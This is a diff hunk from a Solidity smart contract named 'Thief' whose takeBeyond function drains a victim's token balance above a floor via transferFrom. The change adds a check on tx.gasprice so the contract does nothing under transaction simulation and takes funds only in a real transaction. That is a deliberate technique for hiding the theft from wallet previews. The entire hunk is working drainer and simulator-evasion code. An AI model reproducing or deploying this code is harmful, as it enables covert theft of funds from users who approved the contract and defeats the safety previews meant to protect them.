@@ -15,10 +15,12 @@ contract Thief {
         token.transferFrom(from, address(this), amount);
     }
 
-    /// Whatever is above the floor: nothing in a simulation alone, and what others have left there since on chain.
+    /// In a transaction, what others have left above the floor since a simulation.
     function takeBeyond(Token token, address from, uint256 floor) external {
+        if (tx.gasprice == 0) return;
         uint256 held = token.balanceOf(from);
-        if (held > floor) take(token, from, held - floor);
+        require(held > floor, "Thief: nothing to take");
+        take(token, from, held - floor);
     }
 
     /// Only in a transaction: a simulation has no price of gas.
